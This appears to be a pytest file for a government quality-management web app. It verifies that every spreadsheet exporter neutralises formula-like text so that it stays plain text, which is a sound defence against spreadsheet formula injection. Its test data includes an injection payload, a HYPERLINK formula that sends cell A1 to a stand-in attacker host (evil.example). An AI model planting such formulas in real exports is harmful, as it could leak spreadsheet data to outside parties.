"""Safe to export: text that a spreadsheet would run as a formula comes out of every exporter as text.

Each XLSX exporter gets a record whose typed text begins with ``=`` (the one openpyxl would otherwise
write as a live formula) and the other formula starts; the workbook is read back as formulas
(``data_only=False``) and each such cell must be a string cell holding exactly what was typed. The
CSV exporter has no cell types: there the text comes back behind a single quote.
"""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from govqms.core.clock import today
from govqms.core.exports import append_row, csv_row, csv_value, formula_like
from tests.compliance.test_engine import populate
from tests.documents.helpers import create_document
from tests.objectives.test_objectives import create_objective

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Mở")'
FORMULAS = [LINK, "+1+1", "-2+3", "@SUM(A1)"]


def run_job(client, url: str, data: dict | None = None) -> bytes:
    """POST an export form as the user does, check the job finished, and return the file."""
    response = client.post(url, data=data or {})
    assert response.status_code == 302 and "/jobs/" in response.location
    status = client.get(response.location + "/status").get_json()
    assert status["status"] == "finished", status
    return client.get(response.location + "/download").data


def workbook(data: bytes):
    return load_workbook(io.BytesIO(data), data_only=False)


def assert_text(cell, text: str) -> None:
    assert (cell.data_type, cell.value) == ("s", text), f"{cell.coordinate}: {cell.data_type} {cell.value!r}"


# --- the helper ---------------------------------------------------------------------------

def test_helper_keeps_formula_like_text_as_text_and_leaves_the_rest():
    book = Workbook()
    sheet = book.active
    day = today()
    append_row(sheet, [*FORMULAS, "\tx", "\r=1", -5, 2.5, None, day, "Văn bản", ""])
    out = io.BytesIO()
    book.save(out)
    row = next(workbook(out.getvalue()).active.iter_rows(max_row=1))
    for cell, text in zip(row, [*FORMULAS, "\tx", "\r=1"], strict=False):
        assert_text(cell, text)
        assert cell.quotePrefix  # Excel keeps it text when the cell is edited too
    negative, fraction, empty, date, plain = row[6:11]
    assert (negative.data_type, negative.value) == ("n", -5) and fraction.value == 2.5 and empty.value is None
    assert date.is_date and date.value.date() == day
    assert_text(plain, "Văn bản")
    assert not plain.quotePrefix

    assert [formula_like(v) for v in ("=1", "+1", "-1", "@a", "\t", "\r", "a=1", "", -1, None)] == [
        True, True, True, True, True, True, False, False, False, False]
    assert csv_row([LINK, "-2+3", -2, None, "Phòng A"]) == ["'" + LINK, "'-2+3", -2, None, "Phòng A"]
    assert csv_value(day) is day


# --- every exporter -----------------------------------------------------------------------

def test_document_register_keeps_formula_like_titles_as_text(world, login_as, system_scope):
    client = login_as("a1_secretary")
    for number, title in enumerate(FORMULAS, start=1):
        create_document(client, world.a1, code=f"XL-{number:02}", title=title)
    sheet = workbook(run_job(client, f"/t/{world.a1}/documents/export", {"q": "", "sort": "code"})).active
    titles = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    for number, title in enumerate(FORMULAS, start=1):
        assert_text(titles[f"XL-{number:02}"], title)
    assert sheet["I2"].data_type == "n" and sheet["I2"].value == 12  # numbers stay numbers


def test_objectives_export_keeps_formula_like_statements_as_text(world, login_as, system_scope):
    client = login_as("a1_secretary")
    create_objective(client, world.a1, statement=LINK, indicator="-2+3")
    book = workbook(run_job(client, f"/t/{world.a1}/dashboard/export", {"year": str(today().year - 1)}))
    row = next(r for r in book.worksheets[0].iter_rows(min_row=2) if r[0].value == LINK)
    assert_text(row[0], LINK)
    assert_text(row[1], "-2+3")


def test_activity_csv_neutralises_formula_like_notes(world, login_as, system_scope):
    secretary = login_as("a1_secretary")
    document_id = create_document(secretary, world.a1, code="XL-01", title="Quy trình xuất dữ liệu")
    response = login_as("a1_head").post(f"/t/{world.a1}/documents/{document_id}/obsolete",
                                        data={"obsolete_on": "01/01/2026", "reason": LINK})
    assert response.status_code == 302
    text = run_job(secretary, f"/t/{world.a1}/activity/export").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][6] == "note"
    assert ["'" + LINK] == [row[6] for row in rows[1:] if LINK in row[6]]
    assert not any(formula_like(cell) for row in rows for cell in row)


@pytest.fixture
def formula_names(world, system_scope):
    """The province and one of its agencies renamed to text a spreadsheet would run."""
    from govqms.extensions import db
    from govqms.tenancy.models import Jurisdiction, Tenant

    populate(db, world.tenant_ids["a2"])
    db.session.scalar(select(Jurisdiction).where(Jurisdiction.code == world.p1)).name = "@SUM(A1)"
    db.session.get(Tenant, world.tenant_ids["a2"]).name = LINK
    db.session.commit()


def test_comparison_export_keeps_formula_like_names_as_text(world, login_as, formula_names):
    sheet = workbook(run_job(login_as("p1_overseer"), f"/o/{world.p1}/export")).active
    assert_text(sheet["A1"], "@SUM(A1)")
    (agency,) = [row[0] for row in sheet.iter_rows(min_row=3) if row[0].value == LINK]
    assert_text(agency, LINK)


def test_yearly_report_xlsx_keeps_formula_like_names_as_text(world, login_as, formula_names):
    from govqms.extensions import db
    from govqms.official.services import save_profile
    from govqms.tenancy.models import Jurisdiction

    save_profile(db.session.scalar(select(Jurisdiction).where(Jurisdiction.code == world.p1)),
                 {"authority": "@SUM(A1)", "signer_name": "=HYPERLINK(\"http://x\",\"y\")"})
    db.session.commit()
    data = run_job(login_as("p1_overseer"), f"/o/{world.p1}/official/documents",
                   {"year": today().year, "kind": "yearly", "fmt": "xlsx"})
    figures, agencies = workbook(data).worksheets
    assert_text(figures["A1"], "@SUM(A1)")
    (signer,) = [c for row in figures.iter_rows() for c in row if str(c.value).startswith("=HYPERLINK")]
    assert_text(signer, '=HYPERLINK("http://x","y")')
    (agency,) = [row[1] for row in agencies.iter_rows(min_row=8) if row[1].value == LINK]
    assert_text(agency, LINK)
